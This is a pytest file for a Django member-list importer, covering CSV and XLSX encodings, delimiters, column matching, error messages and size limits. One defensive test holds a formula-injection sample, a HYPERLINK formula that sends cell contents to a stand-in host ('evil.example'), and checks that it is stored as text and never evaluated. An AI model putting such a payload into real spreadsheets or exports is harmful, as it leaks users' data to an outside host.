"""Reading member lists: encodings, delimiters, Excel, formulas and limits."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext as _

from einlesen import reading
from einlesen.reading import UnreadableFile, read_table
from tests.einlesen.import_files import HEADER, csv_upload, member, xlsx_upload


def names(table):
    return [row["cells"]["name"] for row in table.rows]


@pytest.mark.parametrize(
    ("encoding", "bom"), [("utf-8", False), ("utf-8", True), ("cp1252", False), ("latin-1", False)]
)
def test_umlauts_survive_every_usual_encoding(encoding, bom):
    table = read_table(
        csv_upload([member("Müller & Söhne Gestaltung", "Görlitz")], encoding=encoding, bom=bom)
    )
    assert names(table) == ["Müller & Söhne Gestaltung"]
    assert table.rows[0]["cells"]["place"] == "Görlitz"
    # The byte-order mark does not end up in the first column name.
    assert table.ignored_columns == []


def test_a_legacy_encoded_file_is_noted():
    table = read_table(csv_upload([member("Müller")], encoding="cp1252"))
    assert table.notes and "Windows-1252" in table.notes[0]


def test_one_latin1_line_in_a_utf8_file_spoils_nothing_else():
    utf8 = csv_upload([member("Björk Design")]).read()
    latin1_line = ";".join(member("Schröder Film")).encode("latin-1") + b"\r\n"
    upload = SimpleUploadedFile("gemischt.csv", utf8 + latin1_line)
    assert names(read_table(upload)) == ["Björk Design", "Schröder Film"]


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_the_delimiter_is_recognised(delimiter):
    table = read_table(
        csv_upload([member("Atelier Eins"), member("Atelier Zwei")], delimiter=delimiter)
    )
    assert names(table) == ["Atelier Eins", "Atelier Zwei"]


def test_quoted_cells_with_delimiters_and_line_breaks_stay_whole():
    upload = SimpleUploadedFile(
        "liste.csv", b'Name;Ort;Beschreibung\r\n"Schmidt; Partner";Leipzig;"Zeile 1\nZeile 2"\r\n'
    )
    [row] = read_table(upload).rows
    assert row["cells"] == {
        "name": "Schmidt; Partner",
        "place": "Leipzig",
        "description": "Zeile 1\nZeile 2",
    }


def test_column_names_are_matched_loosely_and_unknown_ones_reported():
    upload = csv_upload(
        [["Atelier", "Dresden", "x"]], header=["FIRMENNAME", "Stadt", "Lieblingsfarbe"]
    )
    table = read_table(upload)
    assert table.rows[0]["cells"] == {"name": "Atelier", "place": "Dresden"}
    assert table.ignored_columns == ["Lieblingsfarbe"]


def test_xlsx_formulas_arrive_as_their_text_and_are_never_evaluated():
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
    table = read_table(xlsx_upload([[formula, "Person", "Chemnitz", 9111, "a@example.org"]]))
    cells = table.rows[0]["cells"]
    assert cells["name"] == formula
    assert cells["postal_code"] == "9111"  # the row check puts the leading zero back


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (SimpleUploadedFile("leer.csv", b""), "The file is empty."),
        (
            SimpleUploadedFile("x.csv", b"Vorname;Ort\r\nA;B\r\n"),
            "No column “Name” was found in the first row. Please use the column names of the "
            "template.",
        ),
        (
            SimpleUploadedFile("kaputt.xlsx", b"PK\x03\x04kaputt"),
            "The file is not a valid Excel workbook (.xlsx). Please save it again or as CSV.",
        ),
        (
            SimpleUploadedFile("alt.xls", b"\xd0\xcf\x11\xe0"),
            "This spreadsheet format cannot be read. Please save the list as Excel workbook "
            "(.xlsx) or as CSV.",
        ),
        (
            SimpleUploadedFile("bild.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00"),
            "This does not look like a CSV file. Please upload a .csv or .xlsx file.",
        ),
        (
            SimpleUploadedFile("nur-kopf.csv", b"Name;Ort\r\n"),
            "The file has column names but no rows.",
        ),
    ],
    ids=["empty", "no-name-column", "broken-xlsx", "old-xls", "binary", "header-only"],
)
def test_unusable_files_get_a_clear_message(upload, message):
    with pytest.raises(UnreadableFile) as error:
        read_table(upload)
    assert error.value.message == _(message)


def test_the_row_and_size_limits(monkeypatch):
    monkeypatch.setattr(reading, "MAX_ROWS", 10)
    with pytest.raises(UnreadableFile, match="10"):
        read_table(csv_upload([member(f"Atelier {i}") for i in range(20)]))
    monkeypatch.setattr(reading, "MAX_FILE_BYTES", 100)
    with pytest.raises(UnreadableFile, match="MB"):
        read_table(csv_upload([member(f"Atelier {i}") for i in range(5)]))


def test_header_constant_is_the_documented_template():
    from einlesen.columns import COLUMNS

    assert set(HEADER) <= {column.header for column in COLUMNS}
